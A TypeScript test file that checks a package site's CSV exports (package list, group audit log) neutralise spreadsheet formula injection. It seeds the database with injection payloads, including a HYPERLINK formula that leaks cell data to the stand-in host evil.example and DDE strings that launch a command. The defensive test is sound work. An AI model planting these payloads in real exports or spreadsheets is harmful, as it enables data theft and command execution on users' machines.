/**
 * CSV formula injection: every CSV export (the package list, a group's audit trail) neutralises
 * cells a spreadsheet would run as formulas, whatever text the database holds.
 */
import { parse } from "csv-parse/sync";
import type { Hono } from "hono";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type Database, schema } from "../src/platform/db/index.ts";
import type { AppEnv } from "../src/platform/http/app.tsx";
import { createTestApplication } from "./app.ts";
import { createTestDatabase } from "./db.ts";
import { createTestAccount } from "./factories/accounts.ts";
import { insertGroup } from "./factories/governance.ts";

/** Cell starts that spreadsheets (Excel, LibreOffice, Google Sheets, Numbers) read as formulas. */
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?x="&A1,"help")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "＝1+1",
];

let database: Database;
let app: Hono<AppEnv>;
let adminToken = "";

beforeAll(async () => {
  database = await createTestDatabase();
  const built = await createTestApplication(database);
  app = built.app;
  const now = built.clock.now();
  await database.db.insert(schema.packages).values(
    HOSTILE.map((text, i) => ({
      name: `django-hostile-${i}`,
      displayName: text,
      latestVersion: text,
      summary: text,
      requiresPython: text,
      downloadRank: i + 1,
      source: "index" as const,
      syncedAt: now,
    })),
  );
  const group = await insertGroup(database.db, {
    slug: "csv-walk",
    chairs: ["Csv Chair"],
    coChairs: [],
    boardLiaisons: [],
    members: [],
  });
  await database.db.insert(schema.auditLog).values(
    HOSTILE.map((text) => ({
      actor: text,
      occurredAt: now,
      action: text,
      subjectType: "group",
      subjectId: String(group.id),
      cause: text,
    })),
  );
  ({ token: adminToken } = await createTestAccount({
    db: database.db,
    clock: built.clock,
    email: "csv-admin@example.org",
    admin: true,
  }));
});

afterAll(async () => {
  await database?.close();
});

/** Every cell of a CSV text, header excluded. */
function cells(text: string): string[] {
  return (parse(text, { relax_column_count: true }) as string[][]).slice(1).flat();
}

describe("CSV exports", () => {
  it("/packages.csv prefixes every formula-like cell with a single quote", async () => {
    const res = await app.request("/packages.csv?q=hostile");
    expect(res.status).toBe(200);
    const all = cells(await res.text());
    expect(all.filter((c) => FORMULA_START.test(c))).toEqual([]);
    for (const text of HOSTILE) expect(all).toContain(`'${text}`);
  });

  it("a group's audit.csv (page and API) does the same", async () => {
    for (const path of ["/groups/csv-walk/audit.csv", "/api/groups/csv-walk/audit?format=csv"]) {
      const res = await app.request(path, { headers: { authorization: `Bearer ${adminToken}` } });
      expect(res.status, path).toBe(200);
      const all = cells(await res.text());
      expect(all.filter((c) => FORMULA_START.test(c))).toEqual([]);
      for (const text of HOSTILE) expect(all).toContain(`'${text}`);
    }
  });
});
